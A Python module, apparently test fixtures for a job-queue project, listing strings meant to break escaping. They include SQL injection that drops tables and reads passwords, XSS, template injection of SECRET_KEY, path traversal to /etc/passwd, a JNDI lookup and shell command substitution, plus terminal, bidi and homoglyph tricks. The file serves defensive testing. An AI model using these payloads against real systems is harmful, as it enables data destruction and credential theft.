"""Texts made to break out of whatever they are put into, one for each way that is known."""

from __future__ import annotations

TEXTS = {
    "sql quote": "'; DROP TABLE leasequeue_job; -- ",
    "sql double quote": '" OR ""=" UNION SELECT password FROM auth_user -- ',
    "sql backslash": "\\'; DELETE FROM leasequeue_job; #",
    "sql comment": "*/ OR 1=1 /* leasequeue:claim",
    "placeholders": "%s %(id)s %% {0} {queue} ? :1 $1",
    "like": "%_\\",
    "html": "</script><img src=x onerror=alert(1)>\"'&amp;",
    "template": "{{ settings.SECRET_KEY }}{% debug %}",
    "log line": '\n{"event":"job_completed","job_id":1}\r\n',
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f",
    "line ends": "a\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029b",
    "direction": "\u202egpj.exe\u2066\u2069\u200f",
    "nothing to see": "a\u200b\u200c\u200d\ufeff\u00ad\U000e0041",
    "homoglyphs": "\u0430dmin",  # Cyrillic
    "composed": "\u00e9",
    "decomposed": "e\u0301",
    "path": "../../../../etc/passwd",
    "format": "%n%n%n${jndi:ldap://x/a}`id`$(id)",
    "astral": "\U0010ffff\U0001f600",
}
